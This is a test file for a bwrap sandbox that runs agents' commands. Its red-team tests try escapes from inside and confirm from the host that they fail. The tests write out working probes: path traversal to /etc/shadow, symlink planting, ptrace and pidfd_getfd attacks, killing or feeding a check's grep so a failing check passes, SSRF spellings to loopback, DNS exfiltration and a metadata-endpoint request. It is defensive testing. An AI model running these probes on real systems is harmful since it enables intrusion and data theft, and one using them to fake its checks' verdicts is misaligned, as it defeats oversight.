// The red team's battery: each family of ways out of the enforced sandbox is tried from inside, and
// whether it worked is judged from the host (files, processes, sockets, the harness itself), never
// from what the command says about itself.
import { execFileSync, spawn } from 'node:child_process';
import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { bwrapUnavailable } from './backends/bwrap.js';
import { checkLayout, createLayout, MARKER, removeLayout } from './layout.js';
import { openSandbox } from './open.js';
import { bundleLibraryInto, marker, pidsWith, policy, runHarness } from './test-helpers.js';
import type { EgressEvent, Sandbox } from './types.js';

const asRoot = process.getuid?.() === 0;
const NOBODY = 65534;
/**
 * The unprivileged harness's uid. Not 65534: a root harness runs every sandbox as 65534, and the
 * process rlimit an unprivileged harness falls back to counts every process of its uid on the host.
 */
const UNPRIVILEGED = 65532;
const LIMITS = { processes: 64, memoryBytes: 256 * 1024 * 1024, tmpBytes: 16 * 1024 * 1024, shmBytes: 16 * 1024 * 1024 };
const KEY = 'sk-ant-escape-test-secret';
/** Once enough to overflow rmSync's stack; and folders their owner cannot enter or change. */
const DEEP = `python3 -c "import os\nfor i in range(3000): os.mkdir('d'); os.chdir('d')"`;
const LOCKED = 'mkdir -p locked/in ro/in && touch locked/in/f ro/in/f && chmod 000 locked && chmod 500 ro ro/in; (cd "$HOME" && mkdir -p x/y && chmod 000 x)';
/** `../` enough times to climb from any workspace to `/`, as the escape that once worked did. */
const UP = '../'.repeat(24);
/**
 * Takes the holder's stdout and stderr, which lead to the harness, every way a process of the same
 * user could (pidfd_getfd on bwrap's init, opening them through /proc), and floods whatever it got
 * with terminal codes: 600 MiB once overflowed a string in the harness and killed it.
 */
const TAKE_HOLDER_STDIO = `python3 -c "
import os, ctypes
libc = ctypes.CDLL(None, use_errno=True)
pfd = os.pidfd_open(1)
got = []
for n in (1, 2):
    fd = libc.syscall(438, pfd, n, 0)
    print('pidfd_getfd', n, fd if fd >= 0 else os.strerror(ctypes.get_errno()))
    got += [fd] if fd >= 0 else []
    try:
        got.append(os.open('/proc/1/fd/%d' % n, os.O_WRONLY))
    except OSError:
        pass
chunk = b'\\x1b]0;PWNED\\x07\\x1b[2J' + b'X' * (1 << 20)
for i in range(300):
    for fd in got:
        os.write(fd, chunk)
print('took', len(got))
"`;
/** What TAKE_HOLDER_STDIO prints when the sandbox refuses it all. */
const HOLDER_STDIO_REFUSED = 'pidfd_getfd 1 Operation not permitted\npidfd_getfd 2 Operation not permitted\ntook 0\n';

const until = async (done: () => boolean): Promise<void> => {
  for (let i = 0; i < 400 && !done(); i++) await new Promise((r) => setTimeout(r, 10));
};

/** A folder of host files the sandbox must never read or change, readable by everyone (so a failure is the sandbox's, not a mode's). */
let hostDir: string;
let secretFile: string;
let victimDir: string;
/** A second sandbox's folders, as another run in parallel would have them. */
let neighbour: ReturnType<typeof createLayout>;
const events: EgressEvent[] = [];
const hits: string[] = [];
let loopback: net.Server;
let loopback6: net.Server | undefined;
let port: number;
let hostSocket: net.Server;
let hostSocketPath: string;
let abstractSocket: net.Server;
let abstractName: string;

beforeAll(async () => {
  const problem = bwrapUnavailable();
  if (problem) throw new Error(`the enforced backend cannot run here: ${problem}`);
  hostDir = mkdtempSync(join(tmpdir(), 'qs-escape-host-'));
  chmodSync(hostDir, 0o755);
  secretFile = join(hostDir, 'secret.txt');
  writeFileSync(secretFile, 'HOSTSECRET\n', { mode: 0o644 });
  victimDir = join(hostDir, 'victim');
  mkdirSync(victimDir, { mode: 0o777 });
  writeFileSync(join(victimDir, 'keep.txt'), 'keep\n', { mode: 0o666 });
  neighbour = createLayout();
  writeFileSync(join(neighbour.workspace, 'theirs.txt'), 'NEIGHBOUR\n', { mode: 0o644 });
  // A service on the harness's loopback, as a developer's database or a metadata proxy would be.
  const serve = (label: string) => (s: net.Socket) => {
    hits.push(label);
    s.end('HOSTSECRET\n');
  };
  loopback = net.createServer(serve('tcp4'));
  await new Promise<void>((r) => loopback.listen(0, '127.0.0.1', () => r()));
  port = (loopback.address() as net.AddressInfo).port;
  loopback6 = net.createServer(serve('tcp6'));
  await new Promise<void>((r) => {
    loopback6?.once('error', () => {
      loopback6 = undefined;
      r();
    });
    loopback6?.listen(port, '::1', () => r());
  });
  hostSocketPath = join(hostDir, 'host.sock');
  hostSocket = net.createServer(serve('unix'));
  await new Promise<void>((r) => hostSocket.listen(hostSocketPath, () => r()));
  chmodSync(hostSocketPath, 0o777);
  abstractName = `\0${marker('abstract')}`;
  abstractSocket = net.createServer(serve('abstract'));
  await new Promise<void>((r) => abstractSocket.listen(abstractName, () => r()));
});

afterAll(async () => {
  for (const s of [loopback, loopback6, hostSocket, abstractSocket]) await new Promise<void>((r) => (s ? s.close(() => r()) : r()));
  removeLayout(neighbour);
  rmSync(hostDir, { recursive: true, force: true });
});

const open: Sandbox[] = [];
async function enforced(): Promise<Sandbox> {
  const sb = await openSandbox({
    policy: policy({ explicit: ['allowed.example.com'], docs_hosts: ['docs.example.com'] }),
    backend: 'bwrap',
    installHosts: false,
    limits: LIMITS,
    env: { ...process.env, ANTHROPIC_API_KEY: KEY, OPENAI_API_KEY: KEY, GITHUB_TOKEN: KEY },
    onEgress: (e) => events.push(e),
  });
  open.push(sb);
  return sb;
}
afterAll(async () => {
  for (const sb of open.splice(0)) {
    await sb.close();
    removeLayout(sb.describe());
  }
});

describe('escape probes, root or own-uid harness, one sandbox', () => {
  let sb: Sandbox;
  beforeAll(async () => {
    sb = await enforced();
  });

  it('host files are not reachable by relative or absolute paths, and each attempt is recorded', async () => {
    const here = marker('pwned');
    const checkout = join(process.cwd(), here);
    const task = join(hostDir, here);
    const r = await sb.exec(
      [
        `cat ${UP}root/.npmrc`,
        `echo pwned > ${UP}srv/${here}`,
        `cat ${UP}${secretFile.slice(1)}`,
        `echo pwned > ${UP}${task.slice(1)}`,
        `echo pwned > '${checkout}'`,
        `cat '${secretFile}'`,
        'cat /etc/shadow',
        `cat '${join(neighbour.workspace, 'theirs.txt')}'`,
        `ls -A ${UP} /root /home /srv /work /run 2>&1 | grep -c . || true`,
        `cd / && cd .. && cd .. && pwd && ls`,
      ].join('; '),
    );
    expect(r.output).not.toMatch(/HOSTSECRET|NEIGHBOUR|root:[^x]/);
    for (const p of [`/srv/${here}`, task, checkout]) expect(existsSync(p)).toBe(false);
    expect(readFileSync(secretFile, 'utf8')).toBe('HOSTSECRET\n');
    // bash's own redirection error does not say it was creating, so those count as reads.
    const denied = r.denials.map((d) => [d.path, d.reason]);
    expect(denied).toEqual(expect.arrayContaining([
      ['/root/.npmrc', 'hidden'],
      [`/srv/${here}`, 'hidden'],
      [secretFile, 'hidden'],
      [task, 'hidden'],
      [checkout, 'hidden'],
      ['/etc/shadow', 'hidden'],
      [join(neighbour.workspace, 'theirs.txt'), 'hidden'],
    ]));
    // `..` of / is / inside: the root is the sandbox's own, with none of the host's folders.
    expect(r.output).toMatch(/^\/\nbin\n/m);
    expect(r.output).not.toMatch(/^(root|home|srv|work|boot)$/m);
  });

  it.runIf(asRoot)("a setuid copy of a tool left in the workspace is no one's to run on the host: other users cannot pass the sandbox's root", async () => {
    // The workspace's filesystem does not refuse setuid bits on the host side: a copy of `id` made 6755
    // inside would run as the sandbox's uid for any local user who could reach it by its path.
    const r = await sb.exec('cp /usr/bin/id ./suid-id && chmod 6755 ./suid-id && stat -c %a ./suid-id');
    const planted = join(sb.describe().workspace, 'suid-id');
    expect(r.output.trim()).toMatch(/^6755$/);
    // Through sh: setpriv itself keeps root's capabilities up to its own exec, which passes any folder.
    const asStranger = (argv: string[]) => {
      try {
        return { code: 0, out: execFileSync('setpriv', ['--reuid=4321', '--regid=4321', '--clear-groups', 'sh', '-c', '"$@"', 'sh', ...argv], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }) };
      } catch (error) {
        return { code: (error as { status: number }).status, out: String((error as { stderr?: string }).stderr ?? '') };
      }
    };
    const ran = asStranger([planted]);
    expect(ran.code).not.toBe(0);
    expect(ran.out).not.toMatch(/euid=65534/);
    expect(asStranger(['ls', sb.describe().root]).code).not.toBe(0);
    // The sandbox itself still works in its folders.
    expect((await sb.exec('echo ok > still.txt && cat still.txt')).output).toBe('ok\n');
  });

  it('symlinks and hardlinks planted inside lead nowhere, and removing the workspace never follows them', async () => {
    const layout = createLayout();
    const planted = await openSandbox({ policy: policy(), backend: 'bwrap', workspace: layout, limits: LIMITS });
    try {
      const r = await planted.exec(
        [
          `ln -s '${victimDir}' victim; ln -s / rootlink; ln -s '${secretFile}' secret; ln -s /etc/shadow shadow`,
          `ln -s '${victimDir}' "$HOME/victim"; ln -s '${victimDir}' "$TMPDIR/victim"; mkdir -p deep/a && ln -s '${victimDir}' deep/a/v`,
          `ln -s '${hostDir}' "$TMPDIR/host"; ln -s '${join(victimDir, 'keep.txt')}' keep.txt`,
          'cat secret shadow; ls victim/; echo x > victim/new.txt; echo x >> keep.txt',
          'ls rootlink/',
          // Hard links to files of the host the sandbox shows (read-only binds) cross a mount: refused.
          'ln /etc/npmrc hard-npmrc; ln /usr/bin/su hard-su; ln /etc/passwd hard-passwd',
        ].join('; '),
      );
      expect(r.output).not.toContain('HOSTSECRET');
      expect(r.output).toMatch(/hard-su.*(Invalid cross-device link|Operation not permitted)/);
      expect(existsSync(join(victimDir, 'new.txt'))).toBe(false);
      expect(readFileSync(join(victimDir, 'keep.txt'), 'utf8')).toBe('keep\n');
      await planted.close();
      // The host side then removes the folders: links are removed, never followed.
      expect(removeLayout(layout)).toBe(true);
      expect(existsSync(layout.root)).toBe(false);
      expect(readFileSync(join(victimDir, 'keep.txt'), 'utf8')).toBe('keep\n');
      expect(readFileSync(secretFile, 'utf8')).toBe('HOSTSECRET\n');
    } finally {
      await planted.close();
      if (existsSync(layout.root)) removeLayout(layout);
    }
  });

  it('a layout a command makes in its own workspace is never opened: its folders, links out, would be bound from the host', async () => {
    // What a kept workspace can hold when someone re-checks it (`qs check --sandbox WORKSPACE`): a
    // marker, a `workspace` and a `tmp`, and a `home` linking back up to the host's /tmp with as
    // many `..` as the workspace is deep, which bwrap resolved the same way on both sides of a bind.
    const made = sb.describe();
    const fake = { root: made.workspace, workspace: join(made.workspace, 'workspace'), home: join(made.workspace, 'home'), tmp: join(made.workspace, 'tmp') };
    const up = '../'.repeat(made.workspace.split('/').length - 1);
    // A host folder the sandbox's host uid could write to, were it ever shown.
    const writable = mkdtempSync(join(hostDir, 'open-'));
    chmodSync(writable, 0o777);
    const planted = join(writable, 'pwned');
    const r = await sb.exec(`echo 'made by quickloop' > ${MARKER}; mkdir workspace tmp; ln -s ${up}${dirname(hostDir).slice(1)} home; echo made`);
    onTestFinished(async () => {
      await sb.exec(`rm -rf ${MARKER} workspace tmp home`);
    });
    expect(r.output).toBe('made\n');
    const outcome = await openSandbox({ workspace: fake, policy: policy(), backend: 'bwrap', limits: LIMITS }).then(
      async (s) => {
        open.push(s);
        await s.exec(`echo pwned > "$HOME/${planted.slice(dirname(hostDir).length + 1)}"`);
        return 'opened';
      },
      (error: Error) => error.message,
    );
    // Judged from the host: nothing reached the host folder, and the layout was refused for what it is.
    expect(existsSync(planted)).toBe(false);
    // (As root, the sandbox's user made it, so it is another user's; otherwise it lies inside the real root.)
    expect(outcome).toMatch(/^sandbox\.ready: root .* (is inside the quickloop sandbox |is not a quickloop sandbox of this user's \(another user owns it\))/);
    // Each folder a link is refused too, even in a layout at the top.
    const layout = createLayout();
    try {
      rmSync(layout.home, { recursive: true });
      symlinkSync(dirname(hostDir), layout.home);
      expect(() => checkLayout(layout)).toThrow(/^sandbox\.ready: home .* is not a folder of the sandbox \(a link\)/);
    } finally {
      rmSync(layout.home);
      mkdirSync(layout.home);
      removeLayout(layout);
    }
  });

  it('what a command leaves in the workspace (a tree deeper than the stack, folders without permissions) never keeps it on the host', async () => {
    const layout = createLayout();
    const planted = await openSandbox({ policy: policy(), backend: 'bwrap', workspace: layout, limits: LIMITS });
    try {
      const r = await planted.exec(`${DEEP}; ${LOCKED}; echo planted`);
      expect(r.output).toBe('planted\n');
      await planted.close();
      expect(removeLayout(layout)).toBe(true);
      expect(existsSync(layout.root)).toBe(false);
    } finally {
      await planted.close();
      if (existsSync(layout.root)) rmSync(layout.root, { recursive: true, force: true });
    }
  });

  it('/proc shows only the sandbox: pid 1 is its own init, its root is the sandbox root, /proc/sys and sysrq are not writable', async () => {
    const hostUserNamespaces = readFileSync('/proc/sys/user/max_user_namespaces', 'utf8');
    const r = await sb.exec(
      [
        'ls /proc/1/root/; readlink /proc/1/exe',
        'ls /proc | grep -c "^[0-9]"',
        'ls /proc/self/fd',
        'echo 100 > /proc/sys/user/max_user_namespaces; echo c > /proc/sysrq-trigger; echo 1 > /proc/sys/kernel/sysrq; echo 1 > /proc/sys/net/ipv4/ip_forward',
        'cat /proc/1/environ /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c QUICKLOOP || true',
      ].join('; '),
    );
    expect(r.output).not.toMatch(/^(root|home|srv|work)$/m);
    expect(r.output).toMatch(/\/usr\/bin\/bwrap\n/);
    expect(r.output).toMatch(/max_user_namespaces: Read-only file system/);
    expect(r.denials.map((d) => d.path)).toEqual(expect.arrayContaining(['/proc/sys/user/max_user_namespaces', '/proc/sys/net/ipv4/ip_forward']));
    // Only stdio (and ls's own folder fd) are open: nothing of the harness leaked in.
    expect(r.output).toMatch(/\n0\n1\n2\n3\n/);
    expect(readFileSync('/proc/sys/user/max_user_namespaces', 'utf8')).toBe(hostUserNamespaces);
  });

  it('/sys and the cgroup files are read-only', async () => {
    const r = await sb.exec('echo x > /sys/kernel/uevent_helper; for f in /sys/fs/cgroup/*/cgroup.procs /sys/fs/cgroup/unified/cgroup.procs; do echo $$ > $f; done 2>&1 | sort -u | head -3; echo 0 > /sys/class/net/lo/mtu');
    expect(r.output).toMatch(/uevent_helper: Read-only file system/);
    const cgroupLines = r.output.split('\n').filter((l) => l.includes('cgroup.procs'));
    expect(cgroupLines.length).toBeGreaterThan(0);
    for (const line of cgroupLines) expect(line).toMatch(/cgroup\.procs: Read-only file system$/);
    expect(r.output).toMatch(/mtu: (Read-only file system|Permission denied)/);
    expect(r.denials).toEqual(expect.arrayContaining([expect.objectContaining({ path: '/sys/kernel/uevent_helper', operation: 'write', reason: 'read_only' })]));
  });

  it('mount, umount, unshare, chroot and pivot_root all fail', async () => {
    const before = await sb.exec('cat /proc/self/mountinfo | wc -l');
    const r = await sb.exec(
      [
        'unshare -r true; echo "unshare-r=$?"',
        'unshare -U true; echo "unshare-U=$?"',
        'unshare -m true; echo "unshare-m=$?"',
        'unshare -n true; echo "unshare-n=$?"',
        'mount -t tmpfs x /tmp; echo "mount=$?"',
        `umount -l '${sb.describe().workspace}'; echo "umount=$?"`,
        'umount -l /proc/sys; echo "umount-proc=$?"',
        'mount -o remount,rw /; echo "remount=$?"',
        'chroot / true; echo "chroot=$?"',
        'mkdir -p p/old && pivot_root p p/old; echo "pivot=$?"',
        'nsenter -t 1 -m -U true; echo "nsenter=$?"',
      ].join('; '),
    );
    for (const what of ['unshare-r', 'unshare-U', 'unshare-m', 'unshare-n', 'mount', 'umount', 'umount-proc', 'remount', 'chroot', 'pivot', 'nsenter']) {
      expect(r.output).toMatch(new RegExp(`^${what}=[1-9]\\d*$`, 'm'));
    }
    expect((await sb.exec('cat /proc/self/mountinfo | wc -l')).output).toBe(before.output);
  });

  it('cannot see, trace or signal host processes, even one of its own host uid', async () => {
    const m = marker('hostproc');
    const hostUid = asRoot ? NOBODY : (process.getuid?.() ?? 0);
    const argv = asRoot ? ['setpriv', `--reuid=${hostUid}`, `--regid=${hostUid}`, '--clear-groups', '--', 'bash', '-c', `exec -a ${m} sleep 300`] : ['bash', '-c', `exec -a ${m} sleep 300`];
    const victim = spawn(argv[0] as string, argv.slice(1), { stdio: 'ignore' });
    try {
      // setpriv and bash exec in place: the victim is one pid throughout, ready once it is the sleep
      // named by the marker (while it execs, its command line reads empty for a moment).
      const pid = victim.pid as number;
      await until(() => argv0(pid) === m);
      const r = await sb.exec(`kill -9 ${pid}; echo "kill=$?"; kill -9 ${process.pid}; echo "kill-harness=$?"; ls /proc/${pid} >/dev/null 2>&1; echo "seen=$?"; ps -eo args | grep -c '${m}'`);
      expect(r.output).toMatch(/^kill=1$/m);
      expect(r.output).toMatch(/^kill-harness=1$/m);
      expect(r.output).toMatch(/^seen=[12]$/m);
      expect(argv0(pid)).toBe(m);
    } finally {
      victim.kill('SIGKILL');
    }
  });

  it("a program a command starts cannot trace, read or rewrite the command's own shell (a check's verdict)", async () => {
    // A check runs the agent's programs (its `serve`, its scripts) from the check's shell: one that
    // attached to that shell (gdb -p $PPID -ex 'call _exit(0)') turned a failing check into a pass.
    const r = await sb.exec(
      `python3 -c "
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
shell = os.getppid()
print('attach', libc.ptrace(0x4206, shell, 0, 0), ctypes.get_errno() == 1)
for name, mode in (('mem', os.O_RDWR), ('environ', os.O_RDONLY)):
    try:
        os.close(os.open('/proc/%d/%s' % (shell, name), mode)); print(name, 'opened')
    except OSError as e:
        print(name, e.strerror)
"; echo "shell exit would be 3"`,
      { timeoutMs: 20_000 },
    );
    expect(r.output).toMatch(/^attach -1 True$/m);
    expect(r.output).toMatch(/^mem Permission denied$/m);
    expect(r.output).toMatch(/^environ Permission denied$/m);
    expect(r.output).toMatch(/shell exit would be 3\n$/);
  });

  it('no process of the sandbox can trace another, or reach into its memory or descriptors, whichever command started it', async () => {
    // The check's tools (grep, curl) are ordinary readable binaries, so dumpable: without the seccomp
    // filter and a read-only /proc, the agent's server, run by the check, rewrote its grep into exit 0.
    const m = marker('victim');
    const left = await sb.exec(`bash -c 'exec -a ${m} sleep 300' >/dev/null 2>&1 & echo $!`);
    const victim = Number(left.output.trim());
    const r = await sb.exec(
      `python3 -c "
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
nr = {'x86_64': (101, 310, 311), 'aarch64': (117, 270, 271)}[platform.machine()]
def call(name, *args):
    rc = libc.syscall(*args)
    print(name, rc if rc >= 0 else os.strerror(ctypes.get_errno()))
buf = ctypes.create_string_buffer(8)
iov = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 8)
call('seize', nr[0], 0x4206, ${victim}, 0, 0)
call('traceme', nr[0], 0, 0, 0, 0)
call('vm_readv', nr[1], ${victim}, iov, 1, iov, 1, 0)
call('vm_writev', nr[2], ${victim}, iov, 1, iov, 1, 0)
call('pidfd_getfd', 438, os.pidfd_open(${victim}), 0, 0)
if platform.machine() == 'x86_64':
    call('x32-ptrace', 0x40000000 + 521, 0x4206, ${victim}, 0, 0)
else:
    print('x32-ptrace Operation not permitted')
for mode in ('O_RDWR', 'O_WRONLY', 'O_RDONLY'):
    try:
        os.close(os.open('/proc/${victim}/mem', getattr(os, mode))); print('mem', mode, 'opened')
    except OSError as e:
        print('mem', mode, e.strerror)
"; for p in self ${victim} 1; do grep '^Seccomp:' /proc/$p/status; done | sort | uniq -c`,
      { timeoutMs: 20_000 },
    );
    expect(r.output).toMatch(/^seize Operation not permitted\ntraceme Operation not permitted\nvm_readv Operation not permitted\nvm_writev Operation not permitted\npidfd_getfd Operation not permitted\nx32-ptrace Operation not permitted\n/);
    // Opening for writing needs the mount writable, whoever the target; reading another process's
    // memory stays possible, as anything else the sandbox user's processes show each other.
    expect(r.output).toMatch(/^mem O_RDWR Read-only file system\nmem O_WRONLY Read-only file system\nmem O_RDONLY opened\n/m);
    // Every process is under the filter: the command, what an earlier command left, the holder.
    expect(r.output).toMatch(/^\s*3 Seccomp:\s+2\n$/m);
  });

  it("no process can set another's resource limits (prlimit), so none can kill the check's tools with them; its own stay its own", async () => {
    // RLIMIT_CPU 0 on the check's grep kills it at once (SIGKILL), and `! grep -q ERROR log` then passes.
    const m = marker('limited');
    const left = await sb.exec(`bash -c 'exec -a ${m} sleep 300' >/dev/null 2>&1 & echo $!`);
    const victim = Number(left.output.trim());
    const r = await sb.exec(
      `python3 -c "
import os, resource
for pid in (${victim}, 1):
    try:
        resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)); print('set', pid)
    except OSError as e:
        print('refused', e.strerror)
resource.prlimit(0, resource.RLIMIT_CORE, (0, 0)); print('own', resource.getrlimit(resource.RLIMIT_CORE))
"; ulimit -n 64 && echo "ulimit $(ulimit -n)"; grep '^State' /proc/${victim}/status`,
      { timeoutMs: 20_000 },
    );
    expect(r.output).toBe('refused Operation not permitted\nrefused Operation not permitted\nown (0, 0)\nulimit 64\nState:\tS (sleeping)\n');
  });

  it.runIf(process.arch === 'x64')("a program under the isolate wrapper (a check's served one) can neither signal the check's tools nor feed their pipes; its own it still can", async () => {
    // What the agent's server does once the check has started it: finds the check's grep, writes the
    // word the check looks for into the pipe grep reads (a new end of it, opened through /proc), kills
    // grep (so `! grep` passes), then kills a child of its own, which it may.
    const attack = `import os, signal, subprocess, sys, time
child = subprocess.Popen(['sleep', '300'])
time.sleep(0.5)
for p in os.listdir('/proc'):
    try:
        if not p.isdigit() or open('/proc/%s/comm' % p).read() != 'grep\\n':
            continue
    except OSError:
        continue
    try:
        fd = os.open('/proc/%s/fd/0' % p, os.O_WRONLY); os.write(fd, b'READY\\n'); os.close(fd); print('fed grep')
    except OSError as e:
        print('feed:', e.strerror)
    try:
        os.kill(int(p), signal.SIGKILL); print('killed grep')
    except OSError as e:
        print('kill:', e.strerror)
child.kill(); print('own child:', child.wait())
`;
    const r = await sb.exec(
      `cat > attack.py <<'PY'\n${attack}PY\n` +
        `/opt/quickloop/libexec/isolate /usr/bin/python3 attack.py > attack.log 2>&1 & { sleep 3; echo nothing; } | grep -q READY; echo "grep $?"; wait; cat attack.log; rm attack.py attack.log`,
      { timeoutMs: 20_000 },
    );
    expect(r.output).toBe('grep 1\nfeed: Permission denied\nkill: Operation not permitted\nown child: -9\n');
  });

  it("a command cannot take the holder's stdout and stderr, so it cannot flood or crash the harness", async () => {
    // They are sockets (a socket cannot be opened through /proc/PID/fd), and pidfd_getfd, which once
    // gave them, is refused by the seccomp filter; the harness keeps only their first 8 KiB anyway.
    const r = await sb.exec(TAKE_HOLDER_STDIO, { timeoutMs: 30_000 });
    expect(r.output).toBe(HOLDER_STDIO_REFUSED);
    // The harness is this process: it is alive, its heap did not take the 600 MiB, the sandbox still answers.
    expect(process.memoryUsage().heapUsed).toBeLessThan(400 * 1024 * 1024);
    expect((await sb.exec('echo alive')).output).toBe('alive\n');
  });

  it('the layout marker, the layout root and the support files cannot be written or replaced', async () => {
    const d = sb.describe();
    const before = readFileSync(join(d.root, MARKER), 'utf8');
    const r = await sb.exec(
      [
        `echo x > ../${MARKER}; rm -f ../${MARKER}; echo y > ../new; ln -s / ../evil; mv ../workspace ../w2; rm -rf ../home; chmod 777 ..`,
        'echo x > /opt/quickloop/bin/sudo; echo "127.0.0.1 allowed.example.com" >> /etc/hosts; echo "nameserver 8.8.8.8" > /etc/resolv.conf; echo "r::0:0::/:/bin/sh" >> /etc/passwd',
        'touch /usr/local/bin/node /etc/npmrc 2>&1; echo done',
      ].join('; '),
    );
    expect(r.output).toMatch(/done\n$/);
    expect(readFileSync(join(d.root, MARKER), 'utf8')).toBe(before);
    for (const name of ['new', 'evil', 'w2']) expect(existsSync(join(d.root, name))).toBe(false);
    for (const name of ['workspace', 'home', 'tmp']) expect(existsSync(join(d.root, name))).toBe(true);
    expect(r.denials.map((x) => x.reason)).toContain('read_only');
    // Root's files refuse the sandbox user before the read-only mount does (EACCES, not recorded).
    expect(r.output).toMatch(/\/etc\/hosts: (Permission denied|Read-only file system)/);
    expect(r.denials.map((x) => x.path)).toEqual(expect.arrayContaining([`../${MARKER}`, '../new', '/opt/quickloop/bin/sudo', '/etc/resolv.conf']));
    const after = await sb.exec('cat /etc/hosts /etc/resolv.conf; grep -c "^r:" /etc/passwd; head -2 /opt/quickloop/bin/sudo');
    expect(after.output).toMatch(/^127\.0\.0\.1\tlocalhost sandbox\n::1\t.*\nnameserver 127\.0\.0\.1\n0\n#!\/bin\/sh\n/);
  });

  it('host Unix sockets, named or abstract, are unreachable', async () => {
    const r = await sb.exec(
      `python3 -c "
import socket
for name in ['${hostSocketPath}', '\\0${abstractName.slice(1)}', '/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket']:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(name); print('CONNECTED', repr(name), s.recv(64))
    except OSError as e:
        print('refused', e.errno)
"`,
    );
    expect(r.output).not.toMatch(/CONNECTED|HOSTSECRET/);
    expect(r.output.match(/^refused/gm)).toHaveLength(5);
    expect(hits.filter((h) => h === 'unix' || h === 'abstract')).toEqual([]);
  });

  it("the harness's loopback services are unreachable, direct or through the proxy, by any spelling, and each proxy attempt is recorded", async () => {
    events.length = 0;
    const via = "curl -sS --max-time 5 --noproxy '' -x http://127.0.0.1:3128";
    const r = await sb.exec(
      [
        `curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:${port}/`,
        `curl -sS --max-time 5 --noproxy '*' http://[::1]:${port}/`,
        `echo > /dev/tcp/127.0.0.1/${port}`,
        `${via} http://127.0.0.1:${port}/`,
        `${via} http://localhost:${port}/`,
        `${via} http://[::ffff:127.0.0.1]:${port}/`,
        `${via} http://2130706433:${port}/`,
        `${via} http://0x7f.1:${port}/`,
        `${via} http://[::1]:${port}/`,
        `${via} -p https://0:${port}/`,
        `${via} -p https://[::ffff:7f00:1]:${port}/`,
        `${via} http://127.0.0.1.nip.io:${port}/`,
        `${via} -H 'Host: 127.0.0.1:${port}' http://allowed.example.com:${port}/`,
        `${via} -p https://127.0.0.1:${port}/`,
        `${via} -p https://allowed.example.com:${port}/`,
        `printf 'CONNECT 127.0.0.1:${port} HTTP/1.1\\r\\nHost: allowed.example.com:443\\r\\n\\r\\n' | timeout 5 socat - TCP:127.0.0.1:3128 | head -1`,
        `printf 'GET http://allowed.example.com/ HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\n\\r\\n' | timeout 5 socat - TCP:127.0.0.1:3128 | head -1`,
        'echo end',
      ].join('; '),
    );
    expect(r.output).not.toContain('HOSTSECRET');
    expect(r.output).toMatch(/end\n$/);
    expect(hits).toEqual([]);
    const blocked = events.filter((e) => e.type === 'egress.blocked').map((e) => `${e.host}:${e.port}`);
    expect(blocked).toEqual(expect.arrayContaining([`127.0.0.1:${port}`, `localhost:${port}`, `127.0.0.1.nip.io:${port}`, `allowed.example.com:${port}`]));
    expect(events.filter((e) => e.type === 'egress.allowed' && e.port === port)).toEqual([]);
  });

  it('egress around the proxy is refused or recorded: raw IPs, other ports, IPv6, DNS to any resolver', async () => {
    events.length = 0;
    const r = await sb.exec(
      [
        "curl -sS --max-time 5 --noproxy '*' https://192.0.2.10/",
        "curl -sS --max-time 5 --noproxy '*' http://169.254.169.254/latest/meta-data/",
        "curl -sS --max-time 5 --noproxy '*' http://[2001:db8::10]/",
        'for p in 22 25 53 5432 8080; do echo > /dev/tcp/192.0.2.11/$p; done',
        `python3 -c "
import socket
q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04leak\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(q, ('8.8.8.8', 53)); a = s.recvfrom(512)[0]
print('rcode', a[3] & 15, 'answers', int.from_bytes(a[6:8], 'big'))
"`,
        'getent hosts allowed.example.com; echo "getent=$?"',
      ].join('; '),
    );
    expect([...r.output.matchAll(/\/dev\/tcp\/192\.0\.2\.11\/(\d+): Connection refused/g)].map((m) => m[1])).toEqual(['22', '25', '53', '5432', '8080']);
    // REFUSED, no answer: nothing was resolved for it.
    expect(r.output).toMatch(/^rcode 5 answers 0$/m);
    expect(r.output).toMatch(/^getent=2$/m);
    const seen = events.map((e) => [e.type, e.host, e.port, e.method, 'reason' in e ? e.reason : undefined]);
    expect(seen).toEqual(expect.arrayContaining([
      ['egress.blocked', '192.0.2.10', 443, 'TCP', 'bypassed_proxy'],
      ['egress.blocked', '169.254.169.254', 80, 'TCP', 'bypassed_proxy'],
      ['egress.blocked', '2001:db8::10', 80, 'TCP', 'bypassed_proxy'],
      ['egress.blocked', 'leak.example.com', 53, 'DNS', 'bypassed_proxy'],
      ['egress.blocked', 'allowed.example.com', 53, 'DNS', 'bypassed_proxy'],
    ]));
    // (An earlier test's allowed request may report its end late: only this test's hosts count.)
    const tried = new Set(['192.0.2.10', '169.254.169.254', '2001:db8::10', '192.0.2.11', 'leak.example.com']);
    expect(events.filter((e) => e.type === 'egress.allowed' && tried.has(e.host))).toEqual([]);
  });

  it('setuid binaries, file capabilities and sudo give nothing', async () => {
    const r = await sb.exec('grep -E "^(CapEff|CapPrm|CapAmb|NoNewPrivs)" /proc/self/status; su -c id root </dev/null; mount --bind / /tmp 2>&1 | head -1; sudo id -u; sudo cat /etc/shadow; grep " /usr " /proc/self/mountinfo | grep -c nosuid');
    expect(r.output).toMatch(/CapPrm:\s+0{16}\nCapEff:\s+0{16}\nCapAmb:\s+0{16}\nNoNewPrivs:\s+1\n/);
    expect(r.output).toMatch(/^1000$/m);
    expect(r.output).not.toMatch(/^uid=0/m);
    expect(r.output).toMatch(/^1$/m);
  });

  it('no key or host variable of the harness is visible, in the environment or any process of the sandbox', async () => {
